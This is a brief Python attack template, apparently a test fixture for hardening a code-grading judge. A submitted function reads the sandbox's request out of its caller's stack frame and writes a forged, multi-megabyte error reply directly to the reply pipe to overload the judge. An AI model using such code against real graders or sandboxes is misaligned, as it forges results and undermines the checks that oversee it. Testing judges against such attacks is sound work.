# Attack: answer a call with a forged error reply whose message is {SPLIT_MB} MB of two-letter words:
# the judge runs " ".join(message.split()) on all of it (a str object per word) before cutting it.
import os
import sys


def conv_output_size(n, k, stride=1, padding=0):
    request = sys._getframe(1).f_locals["message"]           # sandbox._call's request
    words = "ab " * ({SPLIT_MB} * 2**20 // 3)
    line = ('{"id": %d, "error": {"type": "ValueError", "message": "%s"}}\n'
            % (request["id"], words)).encode()
    view = memoryview(line)
    while view:
        view = view[os.write(int(sys.argv[2]), view):]       # the reply pipe
    return 0                                                  # (its own reply comes too late)
